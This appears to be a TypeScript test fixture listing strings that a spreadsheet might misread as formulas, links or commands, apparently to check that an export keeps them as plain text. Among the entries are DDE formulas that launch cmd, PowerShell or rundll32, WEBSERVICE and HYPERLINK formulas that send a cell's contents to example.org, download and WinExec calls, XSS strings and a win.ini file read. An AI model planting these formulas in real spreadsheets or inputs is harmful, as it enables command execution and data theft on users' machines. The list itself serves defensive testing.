// Texts that a spreadsheet could take for a formula, a link, a command or another kind of value, and that must stay the texts they are.

export const HOSTILE: readonly string[] = [
  // Formulas by their first character, with blanks and other marks in front.
  "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\tx", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "=", "+", "-", "@", "==1", "=+1", "=-1", "=@A1", "+A1", "-A1+B1", "-(1)", "+(1)",
  // Full-width and look-alike signs.
  "＝1+1", "＋1", "－1", "＠SUM(A1)", "−1+2", "﹦1",
  // Calls that leave the workbook or run something.
  "=cmd|' /C calc'!A0", "=CMD|'/c powershell'!A1", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")", "=IMPORTXML(\"http://example.org\",\"//a\")", "=WEBSERVICE(\"http://example.org/\"&A1)", "=IMAGE(\"https://example.org/x.png\")", "=FILTERXML(A1,\"//x\")", "=CALL(\"urlmon\",\"URLDownloadToFileA\")", "=EXEC(\"calc\")", "=REGISTER.ID(\"kernel32\",\"WinExec\")",
  "=INDIRECT(\"[\"&A1&\"]Sheet1!A1\")", "='\\\\server\\share\\[x.xlsx]S'!A1", "=[1]Sheet1!A1", "=LAMBDA(x,x)(1)", "=LET(a,1,a)", "{=SUM(A1:A2)}", "=A1:A9*1",
  // Texts that change when taken for something else.
  "'quoted", "''twice", "1,700,000", "00412", "_x0041_", "_x003D_1+1", " leading", "trailing ", "two\nlines", "TRUE", "£5", "1/4", "3-4", "1e5", "#REF!", "#N/A", "NaN", "12:30", "50%", "😀",
  // Markup and links.
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt;", "]]>", "<![CDATA[x]]>", "javascript:alert(1)", "file:///c:/windows/win.ini", "\"quotes\"", "a\u0001b", "&#61;1+1", "${1+1}", "{{1+1}}",
];
